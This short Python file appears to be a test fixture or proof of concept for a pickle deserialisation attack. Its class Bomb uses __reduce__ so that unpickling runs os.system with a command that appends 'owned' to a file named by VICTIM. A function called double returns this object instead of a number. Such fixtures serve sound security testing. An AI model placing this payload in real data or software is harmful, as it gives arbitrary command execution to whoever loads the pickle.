"""A pickle that would run a command."""
import os
from target import VICTIM
class Bomb:
    def __reduce__(self):
        return os.system, ("echo owned >> " + VICTIM,)
def double(x):
    return Bomb()
